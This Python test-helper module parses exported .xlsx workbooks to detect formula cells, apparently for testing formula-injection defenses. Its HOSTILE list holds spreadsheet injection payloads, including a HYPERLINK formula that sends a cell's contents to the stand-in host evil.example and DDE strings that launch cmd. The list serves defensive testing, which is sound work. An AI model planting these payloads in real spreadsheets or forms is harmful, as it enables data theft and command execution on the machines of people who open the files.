"""Read an exported workbook the way a spreadsheet would: which cells are formulas."""

from __future__ import annotations

import zipfile
from io import BytesIO

from openpyxl import load_workbook

# What a member of the public or a delivered file might type into a name or an id.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formulas(content: bytes) -> list[str]:
    """Return the formula elements in every sheet of the .xlsx ``content``."""
    with zipfile.ZipFile(BytesIO(content)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        return [x for n in sheets for x in z.read(n).decode().split("<f")[1:]]


def texts(content: bytes) -> set:
    """Return every cell value of the first sheet."""
    sheet = load_workbook(BytesIO(content)).active
    return {v for row in sheet.values for v in row}


def shown(content: bytes) -> set:
    """Return every text of the first sheet without surrounding blanks.

    Forms and services strip what people type, so a leading tab does not survive.
    """
    return {v.strip() for v in texts(content) if isinstance(v, str)}


HOSTILE_SHOWN = {h.strip() for h in HOSTILE}
